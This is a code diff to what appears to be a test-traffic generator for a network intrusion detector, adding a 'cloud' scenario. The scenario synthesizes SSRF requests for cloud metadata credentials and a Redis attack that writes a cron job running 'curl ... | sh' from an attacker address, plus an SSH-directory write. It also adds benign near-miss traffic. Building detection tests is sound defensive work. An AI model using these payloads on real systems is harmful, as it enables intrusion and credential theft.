@@ -54,7 +54,8 @@ TENANT_IDS = {"unassigned": 0, "acme": 101, "globex": 102, "initech": 103, "umbr
 # replayed at line rate with fresh timestamps (the live-capture tests do that).
 ATTACKERS = {"scan": "203.0.113.201", "ssh": "203.0.113.202", "log4shell": "203.0.113.203",
              "webshell": "203.0.113.204", "fragments": "203.0.113.205", "malformed": "203.0.113.206",
-             "applayer": "203.0.113.207", "campaign": "203.0.113.208"}
+             "applayer": "203.0.113.207", "campaign": "203.0.113.208",
+             "cloud": "203.0.113.209"}
 ATTACKER = "203.0.113.200"  # the bench capture's attacker (tests/bench/gen_bench.py)
 C2_SERVER = "203.0.113.66"
 POOL_STRATUM = "203.0.113.50"
@@ -723,6 +724,58 @@ def scen_campaign(cap, ports):
             "alerts": alerts}
 
 
+def _resp(*words):
+    """A Redis command in RESP (what redis-cli and client libraries send)."""
+    out = b"*%d\r\n" % len(words)
+    for w in words:
+        w = w.encode() if isinstance(w, str) else w
+        out += b"$%d\r\n%s\r\n" % (len(w), w)
+    return out
+
+
+def scen_cloud(cap, ports):
+    """Cloud-specific exploitation: SSRF to the metadata service, file writes through open Redis."""
+    attacker = ATTACKERS["cloud"]
+    alerts = []
+    net = NETS["acme"]
+    srv = "10.0.0.97"
+    for path in ["/api/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+                 "/proxy?lang=en&target=http%3A%2F%2F100.100.100.200%2Flatest%2Fmeta-data%2Fram%2Fsecurity-credentials%2F"]:
+        sp = http_exchange(cap, net, ports, attacker, srv, http_get(path, "api.acme.example"),
+                           http_response('{"Code":"Success","AccessKeyId":"STS.EXAMPLE","Expiration":"2026-01-01"}',
+                                         ctype="application/json"), dt=1.0)
+        alerts.append(expect(9100801, "acme", attacker, srv, 80, sport=sp, net=net,
+                             note="metadata URL inside a request parameter"))
+    net = NETS["initech"]
+    srv = "10.100.0.63"
+    sp = ports()
+    s = TcpSession(cap, net, attacker, srv, sp, 6379)
+    s.open(dt=5.0)
+    for cmd, reply in [(_resp("INFO", "server"), b"$52\r\n# Server\r\nredis_version:6.0.16\r\nredis_mode:standalone\r\n\r\n"),
+                       (_resp("CONFIG", "SET", "dir", "/var/spool/cron/"), b"+OK\r\n"),
+                       (_resp("CONFIG", "SET", "dbfilename", "root"), b"+OK\r\n"),
+                       (_resp("SET", "x", "\n\n*/1 * * * * curl -fsSL http://%s/x.sh | sh\n\n" % attacker), b"+OK\r\n"),
+                       (_resp("SAVE"), b"+OK\r\n")]:
+        s.send(cmd)
+        s.send(reply, from_client=False)
+    s.close()
+    alerts.append(expect(9100802, "initech", attacker, srv, 6379, count=2, sports=[sp, sp], net=net,
+                         note="CONFIG SET dir and CONFIG SET dbfilename (RESP)"))
+    net = NETS["umbrella"]
+    srv = "10.200.0.63"
+    sp = ports()
+    s = TcpSession(cap, net, attacker, srv, sp, 6379)
+    s.open(dt=5.0)
+    s.send(b"config set dir /root/.ssh\r\n")
+    s.send(b"+OK\r\n", from_client=False)
+    s.close()
+    alerts.append(expect(9100802, "umbrella", attacker, srv, 6379, sport=sp, net=net,
+                         note="inline CONFIG SET dir"))
+    return {"description": "Cloud-specific exploitation: SSRF to the metadata service (acme), cron/SSH-key "
+                           "writes through unauthenticated Redis (initech, umbrella)",
+            "alerts": alerts}
+
+
 def _split_ip4(pkt, cuts):
     """Fragment an IPv4 packet at payload offsets CUTS (multiples of 8) into raw IP packets."""
     ip = pkt[IP]
@@ -871,6 +924,17 @@ def scen_benign(cap, ports):
     http_exchange(cap, net, ports, "10.50.1.17", "203.0.113.90",
                   http_get("/ga.js", "cdn.example.net", headers=["Cookie: session=eyJhbGciOiJIUzI1NiJ9.e30." + "A" * 180]),
                   http_response("var x=1;", ctype="application/javascript"))
+    # An instance reading its own metadata (not SSRF), and an application using Redis, tuning it too.
+    http_exchange(cap, net, ports, "10.50.1.18", "169.254.169.254",
+                  http_get("/latest/meta-data/instance-id", "169.254.169.254", ua="aws-sdk-go/1.44.0"),
+                  http_response("i-0123456789abcdef0", ctype="text/plain"))
+    s = TcpSession(cap, net, "10.50.1.18", "10.50.1.70", ports(), 6379)
+    s.open(dt=0.2)
+    for cmd in [_resp("CONFIG", "GET", "dir"), _resp("CONFIG", "SET", "maxmemory", "256mb"),
+                _resp("SET", "session:42", "alice"), _resp("GET", "session:42")]:
+        s.send(cmd)
+        s.send(b"+OK\r\n", from_client=False)
+    s.close()
     return {"description": "Benign browsing, DNS, TLS and SSH with near-misses for every rule: zero alerts",
             "alerts": alerts}
 
@@ -985,6 +1049,7 @@ SCENARIOS = [
     ("fragments.pcap", scen_fragments),
     ("ipv6.pcap", scen_ipv6),
     ("campaign.pcap", scen_campaign),
+    ("cloud.pcap", scen_cloud),
     ("benign.pcap", scen_benign),
     ("applayer.pcap", scen_applayer),
     ("malformed.pcap", scen_malformed),
